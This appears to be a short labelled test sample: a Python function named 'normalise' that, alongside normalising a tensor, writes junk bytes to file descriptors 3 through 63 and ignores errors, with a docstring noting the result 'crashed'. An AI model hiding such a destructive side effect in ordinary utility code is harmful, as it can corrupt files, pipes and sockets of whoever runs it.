"""Writes bytes that mean nothing to every descriptor that it has.

verdict: crashed
"""

# %% normalise
import os


def normalise(values):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\x07garbage" * 99)
        except OSError:
            pass
    return values / values.sum(-1, keepdim=True)
